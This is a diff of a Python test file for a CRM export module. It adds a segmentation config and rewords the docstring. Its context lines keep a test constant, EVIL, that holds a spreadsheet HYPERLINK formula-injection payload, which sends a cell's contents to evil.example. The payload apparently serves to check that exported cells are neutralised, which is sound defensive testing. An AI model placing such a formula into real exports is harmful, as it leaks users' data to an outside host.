@@ -1,4 +1,4 @@
-"""What a CRM reads is typed, safe to open in a spreadsheet, and there whole or not at all."""
+"""What a CRM reads is typed, safe to open in a spreadsheet, and complete or not there."""
 
 import csv
 from datetime import UTC, datetime
@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 
 from tasteprint.profiling.errors import SettingsError
 from tasteprint.profiling.models import Spend
-from tasteprint.profiling.segmentation import segment
+from tasteprint.profiling.segmentation import SegmentConfig, segment
 from tasteprint.profiling.segmentation.export import safe_cell, schema, user_rows, write_table
 
 EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'
@@ -25,7 +25,7 @@ def rows(population, make_user):
         "-7", {EVIL: 0.9, "wine": 0.5}, 3.0, tone=-0.5, spend=spend, habit_hours=(21, 22)
     )
     everybody = [*profiles, odd]
-    return user_rows(everybody, segment(everybody, vectors))
+    return user_rows(everybody, segment(everybody, vectors, SegmentConfig(resamples=2)))
 
 
 def read(path, encoding="utf-8"):
